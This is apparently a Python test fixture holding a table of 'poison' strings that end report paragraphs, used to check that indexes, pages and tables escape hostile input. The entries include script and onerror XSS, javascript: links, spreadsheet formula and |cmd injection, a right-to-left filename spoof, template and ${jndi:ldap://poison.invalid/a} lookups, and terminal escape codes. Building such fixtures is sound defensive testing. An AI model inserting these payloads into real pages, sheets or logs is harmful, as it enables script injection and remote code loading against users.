"""Hostile strings inside reports whose figures are sound: what a page may carry into an index, a page or a table."""

POISONS: dict[str, str] = {
    "script": "<script>document.title='poison'</script><img src=x onerror=\"alert('poison')\">",
    "javascript-url": '<a href="javascript:alert(1)" onclick="alert(2)">查看附件</a>',
    "formula": '=HYPERLINK("http://poison.invalid/","附件") +1+1 @SUM(A1:A9) -2+3|cmd',
    "right-to-left": "附件\u202egpj.exe\u202c 公开\u2066目录\u2069",
    "template": "{{7*7}} ${jndi:ldap://poison.invalid/a} <%= 7*7 %> {% raw %}",
    "control": "附件\u0007\u001b[31m列表\u200b\ufeff",
}
"""Name of a poison and the string that a paragraph of the report ends with."""
NAMES = tuple(POISONS)
